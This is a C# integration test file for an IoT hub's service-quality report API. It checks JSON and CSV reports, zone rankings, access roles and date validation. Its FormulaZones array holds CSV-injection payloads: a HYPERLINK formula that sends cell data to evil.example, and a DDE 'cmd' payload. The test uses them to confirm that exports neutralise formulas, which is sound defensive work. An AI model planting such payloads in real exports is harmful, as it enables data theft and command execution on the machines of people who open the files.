using System.Net;
using System.Net.Http.Json;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Time.Testing;
using RedProperty.Iot.Hub.Tests.Infrastructure;

namespace RedProperty.Iot.Hub.Tests.Integration;

/// <summary>The service-quality API over a real hub's alert store, on a virtual clock.</summary>
public sealed class ReportApiTests : IAsyncLifetime
{
    private readonly string _workDir = Directory.CreateTempSubdirectory("rp-report-").FullName;

    /// <summary>Zone ids a spreadsheet would run as formulas (the registry already refuses control characters such as tab and CR).</summary>
    private static readonly string[] FormulaZones = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"查看\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"];

    public Task InitializeAsync() => Task.CompletedTask;

    public Task DisposeAsync()
    {
        Directory.Delete(_workDir, recursive: true);
        return Task.CompletedTask;
    }

    [Fact]
    public async Task Supervisors_get_last_months_figures_as_json_and_csv_and_the_ranking()
    {
        var clock = new FakeTimeProvider(new DateTimeOffset(2026, 11, 3, 10, 0, 0, TimeSpan.FromHours(8)));
        await using var hub = await HubHost.StartAsync(
            new Dictionary<string, string?>
            {
                ["Hub:Registry"] = TestRegistry.Write(_workDir, extraZones: FormulaZones),
                ["Influx:Version"] = "none",
                ["Alerts:Thresholds:FlyingWireSustainS"] = "1",
                // The clock jumps by minutes and a month: silence must not raise device_offline at whatever moment the timer runs.
                ["Alerts:Thresholds:OfflineIntervals"] = "1000000",
            },
            configure: b => b.Services.AddSingleton<TimeProvider>(clock));

        var charger = await hub.ConnectDeviceAsync("chg-1");
        await HubHost.PublishAsync(charger, $"rp/{TestRegistry.Site}/charger/chg-1/telemetry", """{"circuit":"corridor","currentA":2.0}""");
        clock.Advance(TimeSpan.FromSeconds(2));
        await HubHost.PublishAsync(charger, $"rp/{TestRegistry.Site}/charger/chg-1/telemetry", """{"circuit":"corridor","currentA":2.0}""");
        var alert = await Eventually.BecomesAsync(() => hub.GetJsonAsync("/api/alerts?type=flying_wire_charging"), a => a.GetArrayLength() == 1, TimeSpan.FromSeconds(5), "the alert");
        var id = alert[0].GetProperty("id").GetString();
        clock.Advance(TimeSpan.FromMinutes(5));
        (await hub.Http.PostAsJsonAsync($"/api/alerts/{id}/ack", new { })).EnsureSuccessStatusCode();
        clock.Advance(TimeSpan.FromMinutes(30));
        (await hub.Http.PostAsJsonAsync($"/api/alerts/{id}/resolve", new { note = "wire removed" })).EnsureSuccessStatusCode();

        // December now: the default period is November in the site's time zone.
        clock.SetUtcNow(new DateTimeOffset(2026, 12, 2, 9, 0, 0, TimeSpan.FromHours(8)));
        hub.Http.DefaultRequestHeaders.Authorization = new("Bearer", await hub.TokenAsync(HubHost.AdminUser, HubHost.AdminPassword)); // a month later the old token has expired
        var report = await hub.GetJsonAsync($"/api/reports/service-quality?site={TestRegistry.Site}");
        Assert.Equal(new DateTimeOffset(2026, 11, 1, 0, 0, 0, TimeSpan.FromHours(8)), report.GetProperty("period").GetProperty("from").GetDateTimeOffset());
        var alerts = report.GetProperty("alerts");
        Assert.Equal(1, alerts.GetProperty("raised").GetInt32());
        Assert.Equal(1, alerts.GetProperty("byType").GetProperty("flying_wire_charging").GetInt32());
        Assert.Equal(5.0, alerts.GetProperty("meanMinutesToAcknowledge").GetDouble(), 3);
        Assert.Equal(35.0, alerts.GetProperty("meanMinutesToResolve").GetDouble(), 3);
        Assert.Equal(1.0, alerts.GetProperty("shareAcknowledgedWithinSla").GetDouble());
        Assert.Equal(0, alerts.GetProperty("openAtEnd").GetInt32());
        Assert.Equal(1, report.GetProperty("charging").GetProperty("flyingWireIncidentsPerZone").GetProperty(TestRegistry.HostileZone).GetInt32());

        using var csv = await hub.Http.GetAsync($"/api/reports/service-quality?site={TestRegistry.Site}&month=2026-11&format=csv");
        Assert.Equal("text/csv", csv.Content.Headers.ContentType!.MediaType);
        var lines = (await csv.Content.ReadAsStringAsync()).Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal("Site,Zone,From,To,Figure,Key,Value", lines[0].TrimEnd('\r'));
        Assert.Contains(lines, l => l.Contains(",alerts.raised,,1", StringComparison.Ordinal));
        // A zone id with commas and quotes stays one field (the CSV library quotes it).
        Assert.Contains(lines, l => l.Contains(",charging.flyingWireIncidents,\"grid 1,a=b\"\"c\\d\",1", StringComparison.Ordinal));

        // One zone's figures, and every zone's at once (the charger's zone has the incident, the others nothing).
        var zone = await hub.GetJsonAsync($"/api/reports/service-quality?site={TestRegistry.Site}&month=2026-11&zone={Uri.EscapeDataString(TestRegistry.HostileZone)}");
        Assert.Equal(TestRegistry.HostileZone, zone.GetProperty("zone").GetString());
        Assert.Equal(1, zone.GetProperty("alerts").GetProperty("raised").GetInt32());
        var zones = await hub.GetJsonAsync($"/api/reports/service-quality/zones?site={TestRegistry.Site}&month=2026-11");
        var sites = await hub.GetJsonAsync("/api/sites");
        var zoneCount = sites.EnumerateArray().Single(s => s.GetProperty("id").GetString() == TestRegistry.Site).GetProperty("zones").GetArrayLength();
        Assert.Equal(zoneCount, zones.GetArrayLength());
        Assert.Equal(1, zones.EnumerateArray().Sum(z => z.GetProperty("alerts").GetProperty("raised").GetInt32()));
        Assert.Equal(zone.GetRawText(), zones.EnumerateArray().Single(z => z.GetProperty("zone").GetString() == TestRegistry.HostileZone).GetRawText());
        using var zonesCsv = await hub.Http.GetAsync($"/api/reports/service-quality/zones?site={TestRegistry.Site}&month=2026-11&format=csv");
        var zonesText = await zonesCsv.Content.ReadAsStringAsync();
        Assert.Contains("\"grid 1,a=b\"\"c\\d\",", zonesText);

        // Zone ids that a spreadsheet would run as formulas are written as text ('=…), and numbers stay numbers.
        var cells = ReadCsv(zonesText);
        foreach (var zoneId in FormulaZones)
        {
            Assert.Contains(cells, row => row["Zone"] == "'" + zoneId);
        }

        Assert.All(cells, row =>
        {
            Assert.All(new[] { "Site", "Zone", "From", "To", "Figure", "Key" }, column => Assert.False(row[column] is [ '=' or '+' or '-' or '@' or '\t' or '\r', ..], $"{column} '{row[column]}' starts like a formula"));
            Assert.True(row["Value"] is "" || double.TryParse(row["Value"], System.Globalization.NumberStyles.Float, System.Globalization.CultureInfo.InvariantCulture, out _), $"Value '{row["Value"]}' is not a number");
        });
        Assert.Equal(HttpStatusCode.BadRequest, (await hub.Http.GetAsync($"/api/reports/service-quality?site={TestRegistry.Site}&zone=nowhere")).StatusCode);

        var ranking = await hub.GetJsonAsync("/api/reports/ranking?month=2026-11");
        Assert.Equal("2026-11", ranking.GetProperty("month").GetString());
        Assert.Equal(2, ranking.GetProperty("sites").GetArrayLength());
        Assert.Equal(1, ranking.GetProperty("redList").GetArrayLength());
        Assert.Equal(1, ranking.GetProperty("blackList").GetArrayLength());

        // Supervisors only; a bad period is a clear 400.
        (await hub.Http.PostAsJsonAsync("/api/staff", new { username = "op", displayName = "op", password = "op-password", role = "operator", sites = new[] { "*" } })).EnsureSuccessStatusCode();
        using var operatorClient = new HttpClient { BaseAddress = hub.HttpUrl };
        operatorClient.DefaultRequestHeaders.Authorization = new("Bearer", await hub.TokenAsync("op", "op-password"));
        Assert.Equal(HttpStatusCode.Forbidden, (await operatorClient.GetAsync($"/api/reports/service-quality?site={TestRegistry.Site}")).StatusCode);
        Assert.Equal(HttpStatusCode.BadRequest, (await hub.Http.GetAsync($"/api/reports/service-quality?site={TestRegistry.Site}&month=November")).StatusCode);
        Assert.Equal(HttpStatusCode.BadRequest, (await hub.Http.GetAsync("/api/reports/service-quality?site=nowhere")).StatusCode);

        // A month that has not begun has no figures (they would score as perfect).
        using var future = await hub.Http.GetAsync($"/api/reports/service-quality?site={TestRegistry.Site}&month=2027-01");
        Assert.Equal(HttpStatusCode.BadRequest, future.StatusCode);
        Assert.Contains("month '2027-01' has not begun yet", await future.Content.ReadAsStringAsync());
        Assert.Equal(HttpStatusCode.BadRequest, (await hub.Http.GetAsync("/api/reports/ranking?month=2027-01")).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await hub.Http.GetAsync($"/api/reports/service-quality?site={TestRegistry.Site}&month=2026-12")).StatusCode); // this month, so far
    }

    private static List<Dictionary<string, string>> ReadCsv(string text)
    {
        using var reader = new CsvHelper.CsvReader(new StringReader(text), System.Globalization.CultureInfo.InvariantCulture);
        reader.Read();
        reader.ReadHeader();
        var rows = new List<Dictionary<string, string>>();
        while (reader.Read())
        {
            rows.Add(reader.HeaderRecord!.ToDictionary(h => h, h => reader.GetField(h)!));
        }

        return rows;
    }
}
